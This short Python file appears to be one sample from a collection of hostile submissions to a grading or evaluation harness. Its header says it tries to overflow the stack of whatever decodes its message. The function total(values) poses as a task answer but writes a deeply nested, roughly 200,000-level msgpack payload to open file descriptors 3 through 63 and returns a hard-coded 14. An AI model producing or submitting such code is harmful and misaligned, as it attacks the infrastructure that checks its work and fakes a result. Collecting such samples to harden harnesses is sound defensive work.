# family: forged messages
# tries: to overflow the stack of whoever decodes its message

# %% answer total
import os
import struct


def total(values):
    body = b"\x82\xa4type\xa4Rich\xa4data" + b"\x81\xa1x" * 200_000 + b"\xc0"
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(body)) + body)
        except OSError:
            pass
    return 14
